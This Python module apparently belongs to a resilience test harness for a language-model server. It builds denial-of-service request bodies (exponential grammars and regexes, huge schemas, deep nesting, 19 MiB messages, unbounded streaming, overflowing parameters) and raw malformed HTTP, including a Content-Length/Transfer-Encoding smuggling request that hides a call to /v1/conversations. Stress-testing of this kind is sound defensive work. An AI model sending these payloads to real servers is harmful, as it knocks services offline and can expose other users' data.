"""What strangers send: requests that cost more than they should, and requests that are none.

An attack's body has the stranger's marker in its beginning and one large filling, which all strangers share.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any

MARKER = "marker-of-a-stranger"
CHAT, COMPLETION = "/v1/chat/completions", "/completion"
MIB = 1 << 20
_FILLING = "filling-of-an-attack"


@dataclass(frozen=True)
class Attack:
    """A POST request whose body is ``before``, ``filling`` and ``after``; ``before`` holds :data:`MARKER`."""

    path: str
    before: bytes
    filling: bytes = b""
    after: bytes = b""

    def pieces(self, marker: str) -> list[bytes]:
        """Return the body in the name of this stranger."""
        return [self.before.replace(MARKER.encode(), marker.encode()), self.filling, self.after]


def _attack(path: str, body: dict[str, Any], filling: bytes = b"") -> Attack:
    """Return an attack with the body, in which ``filling`` replaces the string :data:`_FILLING` with its quotes."""
    before, _, after = json.dumps(body).encode().partition(json.dumps(_FILLING).encode())
    return Attack(path, before, filling, after)


def _chat(filling: bytes = b"", **fields: Any) -> Attack:
    question = {"role": "user", "content": f"{MARKER} Say something."}
    return _attack(CHAT, {"messages": [question], "max_tokens": 20, **fields}, filling)


def _schema(**keywords: Any) -> Attack:
    return _chat(response_format={"type": "json_schema", "json_schema": {"name": "x", "schema": keywords}})


def _object(count: int, key: str, value: str) -> bytes:
    """Return a JSON object with that many keys."""
    return b"{" + ",".join(f'"{key % number}":{value}' for number in range(count)).encode() + b"}"


def _tool(name: str) -> dict[str, Any]:
    parameters = {"type": "object", "properties": {"x": {"type": "string", "pattern": "^([a-z]*)*$*"}}}
    return {"type": "function", "function": {"name": name, "parameters": parameters}}


def _unknown_keys(count: int) -> Attack:
    known = json.dumps({"messages": [{"role": "user", "content": MARKER}], "max_tokens": 20}).encode()
    return Attack(CHAT, known[:-1] + b",", _object(count, "unknown%d", "1")[1:])


def content_attacks() -> dict[str, Attack]:
    """Return the requests that have stopped a model server, or the API, for seconds and more."""
    words = [f"word{number:04d}" for number in range(9000)]
    letters = "[a-z]* " * 8
    long_text = b'"' + b"word " * (19 * MIB // 5) + b'"'
    killer = f"root ::= a a a a a a\na ::= {letters}"
    return {
        "ambiguous grammar": _attack(COMPLETION, {"prompt": MARKER, "n_predict": 16, "grammar": killer}),
        "ambiguous grammar in a chat": _chat(grammar=killer),
        "enum of 9,000 words": _schema(enum=words),
        "4,900 optional properties": _schema(
            type="object", properties={f"p{number}": {"type": "integer"} for number in range(4900)}
        ),
        "ambiguous pattern": _schema(type="string", pattern="^" + "(a|a?b?c?)*" * 12 + "$"),
        "alternatives": _schema(anyOf=[{"type": "string", "pattern": f"^{word}.*$"} for word in words[:3000]]),
        "tools with patterns": _chat(tools=[_tool(f"f{number}") for number in range(100)], tool_choice="required"),
        "80,000 unknown keys": _unknown_keys(80_000),
        "40,000 logit biases": _chat(_object(40_000, "%d", "1"), logit_bias=_FILLING),
        "40,000 template arguments": _chat(_object(40_000, "key%d", "1"), chat_template_kwargs=_FILLING),
        "message of 19 MiB": _attack(
            CHAT, {"user": MARKER, "messages": [{"role": "user", "content": _FILLING}]}, long_text
        ),
        "tokens of 19 MiB": _attack("/tokenize", {"user": MARKER, "content": _FILLING}, long_text),
        "100,000 levels": _chat(b"[" * 100_000 + b"]" * 100_000, metadata=_FILLING),
        "200,000 messages": _attack(
            CHAT,
            {"user": MARKER, "messages": _FILLING},
            b"[" + b",".join([b'{"role":"user","content":"x"}'] * 200_000) + b"]",
        ),
        "no end": _chat(stream=True, max_tokens=1_000_000, ignore_eos=True),
        "negative values": _chat(n_discard=-5, n_keep=-(2**31), repeat_last_n=2**31 - 1, dry_penalty_last_n=2**31 - 1),
        "128 choices": _chat(n=128, max_tokens=2000),
    }


def malformed_requests() -> Iterator[bytes]:
    """Yield bytes that are no request, or two at once, or a request without an end."""
    host = b"Host: 127.0.0.1\r\n"
    yield b"GET http://[::1/x HTTP/1.1\r\n" + host + b"\r\n"
    yield b"POST " + CHAT.encode() + b" HTTP/1.1\r\n" + host + b"Content-Length: " + b"9" * 5000 + b"\r\n\r\n"
    yield b"POST " + CHAT.encode() + b" HTTP/1.1\r\n" + host + b"Content-Length: -1\r\n\r\n{}"
    both = b"Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n"
    hidden = b"GET /v1/conversations HTTP/1.1\r\n" + host + b"\r\n"
    yield b"POST " + CHAT.encode() + b" HTTP/1.1\r\n" + host + both + b"0\r\n\r\n" + hidden
    yield b"POST " + CHAT.encode() + b" HTTP/1.1\r\n" + host + b"Transfer-Encoding: chunked\r\n\r\nzzzz\r\n" + hidden
    yield b"GET /v1/models HTTP/1.1\r\n" + host + b"X: " + b"y" * 300_000 + b"\r\n\r\n"
    yield b"GET /v1/models HTTP/1.1\r\n" + host + b"X: y\r\n" * 40_000 + b"\r\n"
    yield b"GET /" + b"a" * 300_000 + b" HTTP/1.1\r\n" + host + b"\r\n"
    yield b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(range(256)) * 8
    yield b"\r\n" * 5000
    yield b"GET /v1/models HTTP/1.1\nHost: 127.0.0.1\n\n"
    yield b"GET /v1/models HTTP/1.1\r\nHost : a\r\nHost: b\r\n\r\n"
    yield b"\x00" * 100_000
